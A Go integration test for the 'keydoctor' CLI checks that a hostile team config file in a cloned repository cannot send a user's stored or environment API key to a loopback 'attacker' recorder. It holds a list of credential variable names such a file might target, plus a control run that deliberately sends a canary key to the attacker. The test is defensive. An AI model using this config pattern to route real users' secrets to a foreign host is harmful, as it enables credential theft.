package main

import (
	"context"
	"os"
	"strings"
	"testing"

	"github.com/keydoctor/keydoctor/internal/mock"
)

// hostileKeyEnvs are the key_env values a hostile keydoctor.yaml names:
// other credentials of the user's (refused by the key_env rule) and a
// gateway key of another gateway (accepted by the rule, refused for a
// foreign host by the pairing rule), and none at all (the stored
// profile's key would be taken).
var hostileKeyEnvs = []struct {
	name    string
	refused bool // by the key_env rule: 'keydoctor trust' exits 2
}{
	{"AWS_SECRET_ACCESS_KEY", true}, {"AWS_SESSION_TOKEN", true}, {"GITHUB_TOKEN", true}, {"GH_TOKEN", true},
	{"NPM_TOKEN", true}, {"SSH_AUTH_SOCK", true}, {"DB_PASSWORD", true}, {"STRIPE_SECRET_KEY", true},
	{"CI_JOB_TOKEN", true}, {"HOME", true}, {"PATH", true},
	{"TAOTOKEN_API_KEY", false}, {"KEYDOCTOR_API_KEY", true}, {"", false},
}

// TestHostileTeamFile runs the built binary, as root and as nobody, in a
// cloned repository whose keydoctor.yaml names a loopback "attacker" that
// records every credential header it receives. A canary key is in the
// environment (AWS_SECRET_ACCESS_KEY, TAOTOKEN_API_KEY, the variable
// key_env names) and kept by the default stored profile, whose gateway is
// the real (mock) one. Over ping, bench, setup --yes, doctor (online),
// status and profile add, untrusted and then trusted, the canary never
// reaches the attacker; named on the command line (--base-url), it does:
// the listener would have caught a leak.
func TestHostileTeamFile(t *testing.T) {
	binaryTest(t)
	if testing.Short() {
		t.Skip("runs the built binary a few hundred times")
	}
	gw, err := mock.Start(context.Background(), "127.0.0.1:0", mock.Options{Prefix: "/api", Key: canaryKey})
	if err != nil {
		t.Fatal(err)
	}
	defer gw.Close()
	model := gw.Options().Models[0]
	forEachUser(t, func(t *testing.T, u binUser) {
		attacker, err := startRecorder()
		if err != nil {
			t.Fatal(err)
		}
		defer attacker.Close()
		h := newUserHome(t, u)
		h.Env = append(h.Env, "KEYDOCTOR_KEYRING=off", "AWS_SECRET_ACCESS_KEY="+canaryKey, "TAOTOKEN_API_KEY="+canaryKey,
			"TAOTOKEN_BASE_URL="+gw.Root())
		storeCanaryProfile(t, h, gw.Root(), model)
		h.WriteFile("proj/.git/HEAD", "ref: refs/heads/main\n", 0o644)
		runs := 0
		for _, ke := range hostileKeyEnvs {
			team := "base_url: " + attacker.url + "/api\nmodel: " + model + "\n"
			if ke.name != "" {
				team += "key_env: " + ke.name + "\n"
			}
			h.WriteFile("proj/keydoctor.yaml", team, 0o644)
			hh := *h
			if ke.name != "" && ke.name != "HOME" && ke.name != "PATH" {
				hh.Env = append(append([]string(nil), h.Env...), ke.name+"="+canaryKey)
			}
			r := hh.Run("ping")
			noCanary(t, r)
			if hint := "keydoctor: hint: ./keydoctor.yaml (gateway " + strings.TrimPrefix(attacker.url, "http://") + ") "; !strings.Contains(r.Stderr, hint) || !strings.Contains(r.Stderr, ": ignored; 'keydoctor trust' to use it") {
				t.Errorf("key_env %q: ping did not say the file is ignored:\n%s", ke.name, r.Stderr)
			}
			wantCode(t, hh.Run("setup", "--yes", "--tools", "claude"), exitUsage)
			runs += 2 + hostileRuns(t, &hh, model)
			r = hh.Run("trust")
			noCanary(t, r)
			if ke.refused {
				wantCode(t, r, exitUsage)
				if !strings.Contains(r.Stderr, "key_env "+ke.name+" is refused") {
					t.Errorf("key_env %q: trust's refusal does not name it:\n%s", ke.name, r.Stderr)
				}
				wantCode(t, hh.Run("setup", "--yes", "--tools", "claude", "--trust-team-file"), exitUsage)
				runs += 2
				continue
			}
			wantCode(t, r, 0)
			// Trusted: the canary belongs to the mock's host (the profile,
			// TAOTOKEN_BASE_URL): refused for the team's host.
			for _, args := range [][]string{{"ping"}, {"bench", "-n", "1"}, {"setup", "--yes", "--tools", "claude"}} {
				r := hh.Run(args...)
				wantCode(t, r, exitUsage)
				if !strings.Contains(r.Stderr, "it is not sent there") {
					t.Errorf("key_env %q, trusted: %s did not refuse the foreign host:\n%s", ke.name, args[0], r.Stderr)
				}
			}
			runs += 4 + hostileRuns(t, &hh, model)
			if got := h.ReadFile(".claude/settings.json"); strings.Contains(got, attacker.url) {
				t.Errorf("key_env %q: setup wrote the attacker's URL into Claude Code:\n%s", ke.name, got)
			}
		}
		if got := attacker.Heard(canaryKey); len(got) > 0 {
			t.Fatalf("the attacker received the canary %d time(s): %s", len(got), strings.Join(got, "; "))
		}
		t.Logf("%s: %d runs, %d key_env values, the attacker heard %d credential(s), none the canary", u.Name, runs, len(hostileKeyEnvs), len(attacker.Heard("")))
		// The control: named on the command line, the key goes there, and
		// the listener hears it.
		r := h.Run("ping", "--base-url", attacker.url+"/api")
		noCanary(t, r)
		if len(attacker.Heard(canaryKey)) == 0 {
			t.Fatalf("the attacker did not hear the key sent to it on purpose: the test cannot see a leak\n%s", r.Stderr)
		}
	})
}

// hostileRuns runs the commands that read the team file but do not
// fail on it; each must print no key. It returns how many it ran.
func hostileRuns(t *testing.T, h *userHome, model string) int {
	t.Helper()
	runs := [][]string{
		{"bench", "-n", "1"}, {"doctor", "--timeout", "5s"}, {"status"},
		{"profile", "add", "probe", "--model", model, "--key-env", "TAOTOKEN_API_KEY"}, {"profile", "rm", "probe"},
	}
	for _, args := range runs {
		noCanary(t, h.Run(args...))
	}
	return len(runs)
}

// storeCanaryProfile makes "work" the default profile: the mock gateway
// (a custom one, as the team's: the stored layer applies to it), the
// canary kept in keydoctor's 0600 key file.
func storeCanaryProfile(t *testing.T, h *userHome, root, model string) {
	t.Helper()
	cmd := h.Command("profile", "add", "work", "--preset", "custom", "--base-url", root, "--model", model, "--key-stdin")
	cmd.Stdin = strings.NewReader(canaryKey + "\n")
	if out, err := cmd.CombinedOutput(); err != nil || strings.Contains(string(out), canaryKey) {
		t.Fatalf("profile add: %v\n%s", err, out)
	}
	p := h.Path(".config/keydoctor/profiles.yaml")
	b, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, append([]byte("default: work\n"), b...), 0o600); err != nil {
		t.Fatal(err)
	}
}
